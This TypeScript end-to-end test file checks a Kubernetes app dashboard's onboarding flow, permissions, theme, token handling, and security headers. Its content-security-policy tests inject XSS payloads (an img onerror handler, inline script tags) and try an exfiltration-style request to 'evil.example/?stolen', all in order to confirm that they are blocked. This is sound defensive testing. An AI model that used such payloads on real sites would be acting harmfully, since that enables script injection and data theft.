/** The page's first steps, theme, files, and headers, and what a script in the page could reach. */
import { gunzipSync } from "node:zlib";
import { request } from "undici";
import { afterAll, beforeAll, expect, test } from "vitest";
import { apiVersionOf } from "../../bus/kube/kind.ts";
import { Application } from "../../functions/paas/kinds.ts";
import { expectAccessible } from "../harness/accessible.ts";
import { type DashboardEnvironment, people, startDashboardEnvironment, team } from "../harness/dashboard.ts";
import { expectDenied } from "../harness/denied.ts";
import { openRecords, type Records } from "../harness/sessionrecords.ts";
import { sessionCookieName, type Visitor, visitor } from "../harness/visitor.ts";

let environment: DashboardEnvironment;
let records: Records;
beforeAll(async () => {
  environment = await startDashboardEnvironment();
  records = await openRecords(environment);
});
afterAll(async () => {
  await records?.close();
  await environment?.stop();
});

const list = `/api/kubernetes/apis/modoki.tsuzu.dev/v1alpha1/namespaces/${team}/applications`;

const createWeb = () =>
  environment.client.create(
    Application,
    {
      apiVersion: apiVersionOf(Application),
      kind: "Application",
      metadata: { name: "web", namespace: team },
      spec: { domains: ["web.example.com"], replicas: 1 },
    },
    { fieldManager: "test" },
  );

test("shows Applications live to a logged-in user", async () => {
  const page = await environment.loggedIn(people.alice);
  await page.getByLabel("Namespace", { exact: true }).fill(team);
  await page.keyboard.press("Enter");
  await page.getByText("No Applications here yet").waitFor();
  await createWeb();
  await page.getByRole("link", { name: "web", exact: true }).waitFor();
  await expect.poll(() => page.title()).toBe("Applications · Denrei");
});

test("a viewer learns which right each link to a form needs, and an editor follows it", async () => {
  await environment.client.delete(Application, { namespace: team, name: "web" }, {});
  const bob = await environment.loggedIn(people.bob, team);
  for (const [path, plural, links] of [
    ["/builds", "remotesyncs", ["Build a repository", "Build the first repository"]],
    ["/previews", "apppipelines", ["Preview a repository", "Preview the first repository"]],
    ["/github", "installations", ["Create an Installation", "Create the first one"]],
    ["/zundoko", "hikawas", ["Create a Hikawa", "Create the first one"]],
    ["/applications", "applications", ["Create an Application", "Create the first one"]],
    // The first steps.
    ["/applications", "githubapps", ["Create a GitHub App"]],
    ["/applications", "apppipelines", ["Preview a repository"]],
  ] as const) {
    await bob.goto(`${environment.url}${path}`);
    for (const name of links)
      await expectDenied(bob, name, { right: `create ${plural}`, namespace: team, role: "link" });
  }
  expect(new URL(bob.url()).pathname).toBe("/applications");
  await expectAccessible(bob);
  const alice = await environment.loggedIn(people.alice, team);
  await alice.getByRole("link", { name: "Create the first one" }).click();
  await alice.getByRole("heading", { name: "Create an Application", level: 1 }).waitFor();
});

test("an empty namespace leads from GitHub to the first Application and the first preview", async () => {
  const page = await environment.loggedIn(people.alice, team);
  const steps = page.getByRole("region", { name: "First steps" });
  const states = () => steps.getByRole("listitem").locator("span.row").allInnerTexts();
  const names = ["Connect GitHub", "Run the first Application", "Preview pull requests"];
  const shows = (...words: readonly string[]) =>
    expect
      .poll(async () => (await states()).map((state) => state.split("\n")))
      .toEqual(names.map((name, at) => [name, words[at]]));
  await page.getByRole("heading", { name: "No Applications here yet" }).waitFor();
  await shows("Next", "Later", "Later");
  await expectAccessible(page);
  await createWeb();
  await shows("Next", "Done", "Later");
  await steps.getByRole("link", { name: "Create an Installation" }).click();
  await page.getByRole("heading", { name: "Create an Installation", level: 1 }).waitFor();
  await page.goBack();
  await steps.getByRole("button", { name: "Hide the first steps" }).click();
  await page.reload();
  await page.getByRole("link", { name: "web", exact: true }).waitFor();
  expect(await steps.count()).toBe(0);
});

test("removing the focused row moves the focus to the button that adds one", async () => {
  const page = await environment.loggedIn(people.alice, team);
  await page.goto(`${environment.url}/applications/new`);
  await page.getByRole("button", { name: "Add a source" }).click();
  expect(await page.locator(":focus").getAttribute("aria-label")).toBe("Kind of source 1");
  await page.getByRole("button", { name: "Remove source 1" }).focus();
  await page.keyboard.press("Enter");
  await page.getByLabel("Kind of source 1").waitFor({ state: "detached" });
  expect(await page.locator(":focus").innerText()).toBe("Add a source");
});

test("the chosen theme is remembered, and defaults to the system's", async () => {
  const page = await environment.loggedIn(people.alice, team);
  const background = () => page.evaluate<string>("getComputedStyle(document.body).backgroundColor");
  await page.emulateMedia({ colorScheme: "light" });
  const light = await background();
  await page.emulateMedia({ colorScheme: "dark" });
  const dark = await background();
  expect(dark).not.toBe(light);
  await page.getByLabel("Appearance").selectOption("Light");
  expect(await background()).toBe(light);
  await page.reload();
  await page.getByLabel("Appearance").waitFor();
  expect(await background()).toBe(light);
  await page.getByLabel("Appearance").selectOption("System");
  expect(await background()).toBe(dark);
});

test("no token reaches the browser between login and logout", async () => {
  const context = await (await environment.browser()).newContext();
  const seen: string[] = [];
  const reading: Promise<void>[] = [];
  context.on("response", (response) => {
    if (!response.url().startsWith(environment.url)) return;
    reading.push(
      (async () => {
        const headers = await response.headersArray();
        seen.push(response.url(), ...headers.map(({ name, value }) => `${name}: ${value}`));
        // Skips streams, which have no end, and redirects, whose headers are enough.
        const isWhole = !headers.some(({ value }) => value.startsWith("text/event-stream"));
        if (isWhole && response.status() < 300) seen.push(await response.text());
      })().catch(() => undefined),
    );
  });
  try {
    const page = await context.newPage();
    await page.goto(environment.url);
    await page.getByRole("link", { name: "Log in" }).click();
    await page.getByLabel("Name").fill(people.alice.name);
    await page.getByLabel("Password").fill(people.alice.password);
    await page.getByRole("button", { name: "Log in" }).click();
    await page.getByRole("button", { name: "Log out" }).waitFor();
    const cookie = (await context.cookies()).find(({ name }) => name === sessionCookieName)?.value;
    const first = (await records.of(cookie)).session;
    await records.age(cookie);
    expect(await page.evaluate(async (path) => (await fetch(path)).status, list)).toBe(200);
    const second = (await records.of(cookie)).session;
    const kept = await page.evaluate(
      `JSON.stringify([document.cookie, { ...localStorage }, { ...sessionStorage }])`,
    );
    seen.push(String(kept));
    await page.getByRole("button", { name: "Log out" }).click();
    await page.getByRole("button", { name: "Yes, sign me out" }).click();
    await page.getByRole("link", { name: "Log in" }).waitFor();
    expect(page.url()).toBe(`${environment.url}/`);
    await Promise.all(reading);
    const secrets = [first, second].flatMap(({ idToken, refreshToken = "" }) => [
      idToken,
      // The token's claims alone, and its signature.
      ...idToken.split(".").slice(1),
      refreshToken,
    ]);
    expect(secrets.filter((secret) => secret.length < 20)).toEqual([]);
    expect(seen.length).toBeGreaterThan(50);
    expect(seen.join("\n")).toContain(first.csrf);
    expect(secrets.filter((secret) => seen.some((text) => text.includes(secret)))).toEqual([]);
    expect(String(kept)).toMatch(/^\["",/);
  } finally {
    await context.close();
  }
});

test("each response of the API names the version of the page, and no other response does", async () => {
  const versionIn = async (path: string, client: Pick<Visitor, "ask">) =>
    (await client.ask(path)).headers.get("x-denrei-page");
  const stranger = visitor(environment.url);
  const alice = await environment.visitor(people.alice);
  const script = /<script type="module"[^>]* src="([^"]+)"/.exec((await stranger.ask("/")).text)?.[1];
  expect(script).toMatch(/^\/assets\/.*\.js$/);
  for (const path of ["/api/session", list, "/api/nothing"]) {
    expect(await versionIn(path, alice), path).toBe(script);
    expect(await versionIn(path, stranger), path).toBe(script);
  }
  expect(await versionIn("/", stranger)).toBeNull();
});

test("runs only scripts that are files of the page", async () => {
  const page = await environment.loggedIn(people.alice);
  const outcome = await page.evaluate(`(async () => {
    const violated = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => violated.push(effectiveDirective));
    const attempt = (run) => { try { run(); return "ran"; } catch (error) { return error.name; } };
    const tries = [
      attempt(() => { document.body.innerHTML = "<img src=x onerror='window.ran = 1'>"; }),
      attempt(() => { document.createElement("script").text = "window.ran = 2"; }),
      attempt(() => { new DOMParser().parseFromString("<script>window.ran = 4</script>", "text/html"); }),
    ];
    const image = document.createElement("img");
    image.setAttribute("src", "https://evil.example/?stolen");
    document.body.append(image);
    await fetch("https://evil.example/").catch(() => undefined);
    // With the debugger attached, an awaited evaluation may use eval; a separate task may not.
    await new Promise((resolve) => setTimeout(() => {
      tries.push(attempt(() => { eval("window.ran = 3"); }));
      resolve();
    }));
    return { tries, violated: [...new Set(violated)].sort(), ran: window.ran ?? 0 };
  })()`);
  expect(outcome).toEqual({
    tries: ["TypeError", "TypeError", "TypeError", "EvalError"],
    violated: expect.arrayContaining(["connect-src", "img-src", "require-trusted-types-for"]),
    ran: 0,
  });
});

test("blocks inline scripts", async () => {
  const context = await (await environment.browser()).newContext();
  try {
    const page = await context.newPage();
    // As if an attacker had injected markup into the server's response.
    await page.route(`${environment.url}/`, async (route) => {
      const answer = await route.fetch();
      const body = `${await answer.text()}<script>window.ran = 1</script><b onclick="window.ran = 2">click</b>`;
      await route.fulfill({ response: answer, body });
    });
    const refusals: string[] = [];
    page.on("console", (message) => refusals.push(message.text()));
    await page.goto(environment.url);
    await page.getByText("click").click();
    await expect.poll(() => refusals.filter((text) => text.includes("script-src")).length).toBe(2);
    expect(await page.evaluate("window.ran ?? 0")).toBe(0);
  } finally {
    await context.close();
  }
});

test("every response has the security headers, and only API responses are JSON", async () => {
  const user = await environment.visitor(people.bob);
  const nobody = visitor(environment.url);
  const html = (await nobody.ask("/")).text;
  const asset = /\/assets\/[^"]+\.js/.exec(html)?.[0] ?? "";
  const page = "text/html";
  const text = "text/plain";
  const json = "application/json";
  const answers = [
    [200, page, await nobody.ask("/")],
    [200, "text/javascript", await nobody.ask(asset)],
    [404, text, await nobody.ask("/assets/none.js")],
    [303, undefined, await nobody.ask("/auth/login")],
    [303, undefined, await nobody.ask("/auth/callback")],
    [200, page, await nobody.ask("/login-failed?why=denied")],
    [421, text, await nobody.ask("/", { headers: { host: "evil.example" } })],
    [404, text, await nobody.ask("/applications", { method: "POST", headers: { "x-denrei-csrf": "" } })],
    [401, json, await nobody.ask("/api/session")],
    [200, json, await user.ask("/api/session")],
    [200, json, await user.ask(list)],
    [403, json, await user.ask("/api/kubernetes/api/v1/secrets")],
    [403, json, await user.ask("/api/session", { method: "DELETE", headers: { origin: "null" } })],
    [404, json, await user.ask("/api/none")],
  ] as const;
  for (const [status, type, { status: found, headers }] of answers) {
    expect([found, headers.get("content-type")?.split(";")[0]]).toEqual([status, type]);
    expect(Object.fromEntries(headers)).toMatchObject({
      "content-security-policy": expect.stringMatching(
        /^default-src 'none'; script-src 'self'; style-src 'self';/,
      ),
      "x-content-type-options": "nosniff",
      "referrer-policy": "no-referrer",
      "cross-origin-opener-policy": "same-origin",
      "cross-origin-resource-policy": "same-origin",
    });
    expect(headers.get("cache-control")).toMatch(type === "text/javascript" ? /immutable/ : /no-store/);
  }
});

test("assets are compressed if the client accepts it, and can be cached forever", async () => {
  const html = await (await fetch(environment.url)).text();
  const [, script = ""] = /src="(\/assets\/[^"]+\.js)"/.exec(html) ?? [];
  const sent = async (encoding: string) => {
    const { statusCode, headers, body } = await request(`${environment.url}${script}`, {
      headers: { "accept-encoding": encoding },
    });
    expect([statusCode, headers["cache-control"]]).toEqual([200, "public, max-age=31536000, immutable"]);
    return { encoding: headers["content-encoding"], bytes: Buffer.from(await body.arrayBuffer()) };
  };
  const [plain, packed] = [await sent("identity"), await sent("br, gzip")];
  expect([plain.encoding, packed.encoding]).toEqual([undefined, "gzip"]);
  expect(gunzipSync(packed.bytes)).toEqual(plain.bytes);
  expect(packed.bytes.length).toBeLessThan(plain.bytes.length / 2);
});

test("a page's path may contain a dot, and a missing asset is a 404", async () => {
  const status = async (path: string) => (await request(`${environment.url}${path}`)).statusCode;
  expect(await status(`/builds/${team}/my.app`)).toBe(200);
  expect(await status("/assets/nothing.js")).toBe(404);
});
